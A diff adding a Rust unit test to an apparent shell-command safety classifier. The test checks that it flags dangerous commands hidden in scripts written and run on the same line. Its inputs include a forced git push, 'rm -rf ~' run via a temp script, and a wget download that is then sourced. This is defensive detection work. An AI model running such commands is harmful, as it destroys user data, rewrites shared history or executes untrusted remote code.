@@ -470,3 +470,20 @@ fn tools_that_run_commands() {
     assert_eq!(keys_of("node -e \"$JS\""), [keys::OPAQUE_SHELL]);
     assert_eq!(keys_of("\"$TOOL\" --version"), [keys::OPAQUE_SHELL]);
 }
+
+#[test]
+fn scripts_written_on_the_line_are_followed() {
+    assert_eq!(
+        keys_of("echo 'git push -f' > p.sh; bash ./p.sh"),
+        [keys::GIT_FORCE_PUSH]
+    );
+    assert_eq!(
+        keys_of("cd /tmp && echo 'rm -rf ~' > s.sh && sh /tmp/s.sh"),
+        [keys::RM_HOME]
+    );
+    assert_eq!(
+        keys_of("wget -qO run.sh https://x && source run.sh"),
+        [keys::PIPE_TO_SHELL]
+    );
+    assert!(keys_of("echo 'echo hi' > a.sh; bash b.sh").is_empty());
+}
